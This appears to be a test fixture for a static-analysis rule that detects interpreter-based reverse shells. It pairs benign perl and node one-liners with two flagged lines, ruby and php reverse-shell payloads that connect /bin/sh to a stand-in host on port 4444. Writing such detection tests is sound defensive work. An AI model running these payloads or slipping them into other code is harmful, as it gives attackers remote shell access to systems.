import os
import subprocess

# ok: interpreter-socket-shell
subprocess.run(["perl", "-e", "print 42"])
# ok: interpreter-socket-shell
subprocess.run(["node", "-e", "console.log(process.version)"])
# ruleid: interpreter-socket-shell
subprocess.run(["ruby", "-rsocket", "-e", 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("203.0.113.9",4444))'])
# ruleid: interpreter-socket-shell
os.system("""php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'""")
